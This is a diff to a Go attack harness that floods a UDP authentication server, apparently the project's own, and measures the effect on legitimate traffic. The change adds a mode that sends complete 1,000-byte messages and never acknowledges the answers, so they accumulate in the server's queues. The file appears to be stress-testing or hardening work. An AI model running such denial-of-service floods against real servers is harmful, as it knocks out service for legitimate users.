@@ -45,6 +45,7 @@ var (
 	echo    = flag.Bool("echo", false, "attack `serve --echo` (default: the NEX authentication server)")
 	frags   = flag.Int("fragments", 800, "fragments of 1,300 bytes of the unfinished message per connection")
 	early   = flag.Int("early", 511, "early packets of 4,000 bytes per connection, after the hole")
+	unacked = flag.Int("messages", 0, "instead of the above, complete messages of 1,000 bytes per connection whose answers are never acknowledged (they pile up in the server's queues)")
 	settle  = flag.Duration("settle", 3*time.Second, "wait after the attack before measuring")
 	spacing = flag.Duration("spacing", 2*time.Millisecond, "pause after every 32 packets sent (loopback's socket buffers overflow otherwise)")
 )
@@ -116,8 +117,12 @@ func main() {
 		socks = append(socks, c)
 	}
 	took := time.Since(start)
-	fmt.Printf("%d connections sent %d fragments of 1,300 bytes and %d early packets of 4,000 bytes each in %v\n",
-		*conns, *frags, *early, took.Round(time.Millisecond))
+	if *unacked > 0 {
+		fmt.Printf("%d connections sent %d messages of 1,000 bytes each, acknowledging nothing, in %v\n", *conns, *unacked, took.Round(time.Millisecond))
+	} else {
+		fmt.Printf("%d connections sent %d fragments of 1,300 bytes and %d early packets of 4,000 bytes each in %v\n",
+			*conns, *frags, *early, took.Round(time.Millisecond))
+	}
 	time.Sleep(*settle)
 	close(stopLegit)
 	during := <-legitDone
@@ -244,6 +249,15 @@ func attack(addr string) (*net.UDPConn, error) {
 			time.Sleep(*spacing)
 		}
 		return send(q, serverSig)
+	}
+	if *unacked > 0 {
+		msg := make([]byte, 1000)
+		for range *unacked {
+			if err := data(0, msg); err != nil {
+				return nil, err
+			}
+		}
+		return c, nil
 	}
 	body := make([]byte, 1300)
 	for i := range *frags {
